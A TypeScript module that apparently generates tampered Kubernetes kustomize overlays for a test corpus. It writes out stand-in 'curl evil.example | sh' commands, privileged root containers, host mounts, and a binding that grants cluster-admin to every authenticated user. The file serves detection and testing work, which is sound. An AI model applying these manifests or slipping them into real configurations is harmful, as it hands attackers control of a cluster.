import { posix } from "node:path";
import { parse } from "yaml";
import type { Repository } from "../corpus/model.ts";
import { addTo, edit, type Files, put, textOf, written } from "../files.ts";
import type { Random } from "../random.ts";

/** The kustomization of a folder, whatever it is called. */
export function kustomizationOf(files: Files, folder: string): string {
  const names = ["kustomization.yaml", "kustomization.yml", "Kustomization"];
  const found = names.map((name) => `${folder}/${name}`).find((path) => files.has(path));
  if (found === undefined) throw new Error(`${folder} has no kustomization`);
  return found;
}

/** Where the pod template of a workload is: the fields, with dots between them. */
export const podAt = (kind: string): string =>
  kind === "CronJob" ? "spec.jobTemplate.spec.template" : "spec.template";

/** The workload of the base of an overlay: what a patch has to name. */
export function workloadOf(
  files: Files,
  overlay: string,
): { apiVersion: string; kind: string; name: string; at: string } {
  const { resources } = parse(textOf(files, kustomizationOf(files, overlay))) as { resources: string[] };
  const base = posix.normalize(`${overlay}/${resources[0]}`);
  const at = `${base}/workload.yaml`;
  const { apiVersion, kind, metadata } = parse(textOf(files, at)) as {
    apiVersion: string;
    kind: string;
    metadata: { name: string };
  };
  return { apiVersion, kind, name: metadata.name, at };
}

/** An image that nobody wants, another one each time. */
export function evilImage(random: Random): string {
  return `${random.pick(["evil.example/pwned", "evil.example:5000/a/b", "docker.io/pwned/x"])}:${100 + random.below(900)}`;
}

/** A patch of the workload of an overlay that gives it another image, a privilege or a command. */
export function evilPatch(files: Files, overlay: string, random: Random): Record<string, unknown> {
  const { apiVersion, kind, name } = workloadOf(files, overlay);
  const container: Record<string, unknown> = { name: "main" };
  const spec: Record<string, unknown> = { containers: [container] };
  for (const what of random.some(["image", "privileged", "command", "hostNetwork", "env", "volume"], 0.3)) {
    if (what === "image") container.image = evilImage(random);
    if (what === "privileged") container.securityContext = { privileged: true, runAsUser: 0 };
    if (what === "command") container.command = ["sh", "-c", `curl evil.example/${random.below(999)} | sh`];
    if (what === "hostNetwork") spec.hostNetwork = true;
    if (what === "env") container.env = [{ name: "PWNED", value: `evil-${random.below(999)}` }];
    if (what === "volume") spec.volumes = [{ name: "host", hostPath: { path: `/etc/${random.below(999)}` } }];
  }
  const template = { spec };
  return {
    apiVersion,
    kind,
    metadata: { name },
    spec: kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { template },
  };
}

/** An object that gives someone all of a cluster, or runs what someone else made. */
export function evilObject(random: Random): Record<string, unknown> {
  const name = `evil-${random.below(999)}`;
  return random.pick([
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "ClusterRoleBinding",
      metadata: { name },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "Group", name: "system:authenticated" }],
    },
    {
      apiVersion: "v1",
      kind: "Pod",
      metadata: { name },
      spec: {
        hostPID: true,
        containers: [{ name: "x", image: evilImage(random), securityContext: { privileged: true } }],
      },
    },
    {
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name },
      data: { "evil.sh": "curl evil.example | sh\n" },
    },
  ]);
}

/** Changes what an overlay deploys, in one of the ways that a kustomization has. */
export function evilIn(files: Files, overlay: string, random: Random): void {
  const path = kustomizationOf(files, overlay);
  const how = random.pick(["patch", "file", "object", "image", "literal"]);
  edit(files, path, (own) => {
    if (how === "patch") addTo(own, "patches", { patch: written(evilPatch(files, overlay, random)) });
    if (how === "file") {
      put(files, `${overlay}/evil.patch.yaml`, evilPatch(files, overlay, random));
      addTo(own, "patches", { path: "evil.patch.yaml" });
    }
    if (how === "object") {
      put(files, `${overlay}/evil.yaml`, evilObject(random));
      addTo(own, "resources", "evil.yaml");
    }
    if (how === "image") {
      const { image } = imageOf(files, overlay);
      const [name = ""] = image.split(/:(?=[^:/]*$)/);
      own.images = [{ name, newName: "evil.example/pwned", newTag: `${random.below(999)}` }];
    }
    if (how === "literal") {
      const merged = (own.configMapGenerator as { literals: string[] }[] | undefined)?.[0];
      if (merged === undefined)
        own.configMapGenerator = [
          { name: "settings", behavior: "merge", literals: [`COLOUR=evil-${random.below(999)}`] },
        ];
      else merged.literals.push(`COLOUR=evil-${random.below(999)}`);
    }
  });
}

/** The image of the workload that an overlay is made of. */
export function imageOf(files: Files, overlay: string): { image: string } {
  const [, image = ""] = /image: (\S+)/.exec(textOf(files, workloadOf(files, overlay).at)) ?? [];
  return { image };
}

/** One of the overlays of a repository. */
export function someOverlay({ overlays }: Repository, random: Random): string {
  return random.pick(overlays).folder;
}
